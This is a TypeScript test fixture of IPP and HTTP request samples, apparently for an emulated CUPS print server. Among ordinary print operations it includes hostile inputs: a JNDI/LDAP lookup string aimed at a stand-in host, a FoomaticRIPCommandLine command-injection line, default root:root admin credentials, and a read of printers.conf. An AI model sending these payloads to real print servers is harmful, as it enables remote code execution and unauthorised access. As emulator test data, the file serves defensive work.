import { encodeBrowsePacket } from '../../../src/emulators/ipp/browse-packet.ts'
import { encodeMessage, GROUP, type IppAttribute, TAG } from '../../../src/emulators/ipp/codec.ts'
import { attribute } from '../../../src/emulators/ipp/values.ts'
import { httpRequest } from '../http-request.ts'

function operation(code: number, extra: IppAttribute[] = [], data = ''): Buffer {
  const head = [
    attribute('attributes-charset', TAG.charset, 'utf-8'),
    attribute('attributes-natural-language', TAG.language, 'en'),
    attribute('printer-uri', TAG.uri, 'ipp://a/printers/PDF'),
  ]
  const groups = [{ tag: GROUP.operation, attributes: [...head, ...extra] }]
  const body = encodeMessage({ version: { major: 2, minor: 0 }, code, requestId: 7, groups, data: Buffer.from(data, 'latin1') })
  return httpRequest('POST', '/printers/PDF', body, { 'Content-Type': 'application/ipp' })
}

const job = attribute('job-id', TAG.integer, 1)

/** What is announced to cups-browsed. */
export const byPort = {
  'udp 631': [
    encodeBrowsePacket({ type: '0', state: '3', uri: 'http://203.0.113.9:12345/printers/x', location: 'a', info: 'b', makeAndModel: 'HP' }),
    Buffer.from('6d6f6465 3 ipp://[2001:db8::1]/x "${jndi:ldap://x.example/a}"\n'),
  ],
}

/** Every kind of operation, the web interface, and its forms. */
export default [
  operation(0x0b, [attribute('requested-attributes', TAG.keyword, 'all', 'media-col-database')]),
  operation(
    0x02,
    [
      attribute('job-name', TAG.name, 'x'),
      attribute('compression', TAG.keyword, 'gzip'),
      attribute('document-format', TAG.mimeType, 'text/plain'),
    ],
    '\x1f\x8b\x08\0',
  ),
  operation(0x02, [attribute('copies', TAG.integer, 3)], '%PDF-1.4 /Type /Page'),
  Buffer.concat([
    operation(0x05),
    operation(0x06, [job, attribute('last-document', TAG.boolean, true)], 'x'),
    operation(0x09, [job]),
    operation(0x0a, [attribute('which-jobs', TAG.keyword, 'all')]),
  ]),
  Buffer.concat([0x08, 0x0c, 0x0d, 0x0e, 0x14, 0x39, 0x3b, 0x400d, 0x400e, 0x4027].map((code) => operation(code, [job]))),
  Buffer.concat([0x4001, 0x4002, 0x4005, 0x400b, 0x400c, 0x400f, 0x10, 0x11, 0x13, 0x400a].map((code) => operation(code))),
  operation(0x4003, [attribute('device-uri', TAG.uri, 'ipp://203.0.113.1/x')], '*FoomaticRIPCommandLine: "id"\n'),
  operation(0x16, [
    attribute('media-col', TAG.begCollection, [attribute('media-size', TAG.begCollection, [attribute('x-dimension', TAG.integer, 1)])]),
  ]),
  Buffer.concat([
    httpRequest('GET', '/'),
    httpRequest('GET', '/printers/PDF'),
    httpRequest('GET', '/jobs/'),
    httpRequest('POST', '/admin/', 'OP=x', { Authorization: 'Basic cm9vdDpyb290' }),
    httpRequest('GET', '/admin/conf/printers.conf', '', { Authorization: 'Basic cm9vdDpyb290' }),
  ]),
]
